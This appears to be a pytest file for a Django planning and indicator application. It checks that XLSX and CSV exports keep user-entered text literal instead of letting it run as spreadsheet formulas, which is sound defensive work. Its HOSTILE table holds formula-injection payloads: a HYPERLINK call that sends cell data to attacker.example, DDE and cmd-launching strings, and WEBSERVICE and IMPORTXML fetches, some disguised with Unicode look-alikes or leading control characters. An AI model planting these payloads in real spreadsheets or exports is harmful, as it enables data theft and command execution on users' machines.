"""No export runs a formula: hostile text in every user-editable field that reaches a spreadsheet (plan title and
number, task texts, budget items and notes, commune and village names, indicator names, figure comments) reads
back from every export as literal text, never as a formula.

The check here is written independently of `xaso.core.spreadsheet`, so a broken rule there fails these tests."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from xaso.geo.models import AdminUnit
from xaso.geo.services import village_create
from xaso.indicators.importexport import export_values, values_import
from xaso.indicators.models import DataValue, Indicator
from xaso.indicators.services import ValueInput, values_write
from xaso.plans.models import BudgetLine, Plan, Task
from xaso.reports import services

pytestmark = pytest.mark.django_db

# one payload per field, so each can be found in the file it must reach
HOSTILE = {
    "plan_title": '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")',
    "plan_number": "+1+cmd|' /C calc'!A0",
    "task_title": "-2+3+cmd|' /C calc'!A0",
    "task_person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "task_lead_unit": "\t=1+2",
    "task_coordinating_units": "\r=3+4",
    "task_deliverable": " =5+6",
    "task_approver": "＝7+8",
    "task_method": "\n@x",
    "task_expected_effect": "－1+1",
    "task_timeframe_text": '\u2212WEBSERVICE("http://x")',
    "budget_item": '=IMPORTXML("http://x","//a")',
    "budget_notes": "＠SUM(A1)",
    "commune_name": "=1+1 Xã",
    "village_name": "+Ấp=1",
    "indicator_name": "@cmd",
    "comment": '=DDE("cmd";"/C calc";"!A0")',
}
_LEADING = re.compile(r"^[\s\u200b\u200c\u200d\u2060\ufeff]*")
_TRIGGERS = set("=+-@＝＋－＠\u2212")
_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)*%?")


def runs_in_a_spreadsheet(text: str) -> bool:
    """Independent oracle: the first visible sign is a formula trigger (or the text starts with a tab/CR/LF), and
    the text is not a plain number."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    rest = _LEADING.sub("", text)
    return bool(rest) and rest[0] in _TRIGGERS and not _NUMBER.fullmatch(rest.strip())


def assert_xlsx_inert(content: bytes) -> set[str]:
    """No formula cell anywhere; formula-like text is a quote-prefixed string. Returns the payloads found whole."""
    found = set()
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    if runs_in_a_spreadsheet(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                    found |= {k for k, p in HOSTILE.items() if cell.value == p}
    return found


def assert_csv_inert(content: bytes) -> set[str]:
    found = set()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for text in row:
            assert not runs_in_a_spreadsheet(text), text
            found |= {k for k, p in HOSTILE.items() if text == "'" + p}
    return found


@pytest.fixture
def hostile(an_vien, an_vien_plan, an_vien_officer):
    """The An Viễn plan with a hostile text in every field an official can type, stored as typed (as the API would)."""
    village = village_create(commune=an_vien, name="Ấp tạm", user=an_vien_officer)
    AdminUnit.objects.filter(pk=village.pk).update(name=HOSTILE["village_name"])
    AdminUnit.objects.filter(pk=an_vien.pk).update(name=HOSTILE["commune_name"])
    Plan.objects.filter(pk=an_vien_plan.pk).update(title=HOSTILE["plan_title"], number=HOSTILE["plan_number"])
    task = Task.objects.filter(plan=an_vien_plan).order_by("id").first()
    Task.objects.filter(pk=task.pk).update(**{f: HOSTILE[f"task_{f}"] for f in (
        "title", "person", "lead_unit", "coordinating_units", "deliverable", "approver", "method",
        "expected_effect", "timeframe_text")})  # fmt: skip
    line = BudgetLine.objects.filter(plan=an_vien_plan).order_by("id").first()
    BudgetLine.objects.filter(pk=line.pk).update(item=HOSTILE["budget_item"], notes=HOSTILE["budget_notes"])
    Indicator.objects.filter(code="dossiers_online_rate").update(name=HOSTILE["indicator_name"])
    rows = []
    for unit in (an_vien, village):
        rows += [ValueInput("dossiers_received", unit.code, "2026-01", 100),
                 ValueInput("dossiers_online", unit.code, "2026-01", 80)]  # fmt: skip
    values_write(user=an_vien_officer, rows=rows)
    DataValue.objects.filter(unit=village, data_element__code="dossiers_online").update(comment=HOSTILE["comment"])
    an_vien_plan.refresh_from_db()
    an_vien.refresh_from_db()
    return an_vien_plan, village


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ("targets", {"indicator_name"}),
        ("tasks", {"task_title", "task_person", "task_lead_unit", "task_coordinating_units", "task_deliverable",
                   "task_approver", "task_method", "task_expected_effect"}),
        ("budget", {"budget_item", "budget_notes"}),
        ("values", {"commune_name", "village_name", "indicator_name"}),
    ],
)  # fmt: skip
def test_plan_exports_keep_hostile_text_literal(hostile, an_vien_officer, table, expected):
    plan, _village = hostile
    found = assert_xlsx_inert(services.export_plan_xlsx(plan, an_vien_officer, table))
    assert expected <= found
    if table == "values":  # the plan title is the sheet's subtitle, the commune name the first unit
        assert "plan_title" in found


def test_province_job_keeps_hostile_text_literal(settings, tmp_path, dong_nai, hostile, province_analyst):
    settings.MEDIA_ROOT = tmp_path
    settings.XASO_PRIVATE_ROOT = tmp_path
    job = services.report_job_create(user=province_analyst, kind="province_xlsx", unit=dong_nai, year=2026)
    found = assert_xlsx_inert(job.result.read())
    assert {"plan_title", "plan_number", "commune_name", "indicator_name"} <= found


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_data_export_keeps_hostile_text_literal_and_imports_back(hostile, an_vien, an_vien_officer, fmt):
    _plan, village = hostile
    units = [an_vien, village]
    periods = list(DataValue.objects.values_list("period", flat=True).distinct())
    from xaso.core.models import Period

    data = export_values(user=an_vien_officer, units=units, periods=Period.objects.filter(pk__in=periods), fmt=fmt)
    found = assert_csv_inert(data) if fmt == "csv" else assert_xlsx_inert(data)
    assert {"commune_name", "village_name", "comment"} <= found
    report = values_import(user=an_vien_officer, data=data, filename=f"export.{fmt}")
    assert report.errors == [] and report.result.unchanged == 4 and report.result.updated == 0
    assert DataValue.objects.get(unit=village, data_element__code="dossiers_online").comment == HOSTILE["comment"]


def test_a_negative_number_stays_a_number_in_the_csv(an_vien, an_vien_officer, catalog):
    from xaso.core.models import Period

    values_write(user=an_vien_officer, rows=[ValueInput("households_total", an_vien.code, "2026", 12, "-5")])
    data = export_values(user=an_vien_officer, units=[an_vien], periods=Period.objects.all(), fmt="csv")
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row[5:] == ["12", "-5"]  # "-5" is a number, not a formula: no apostrophe
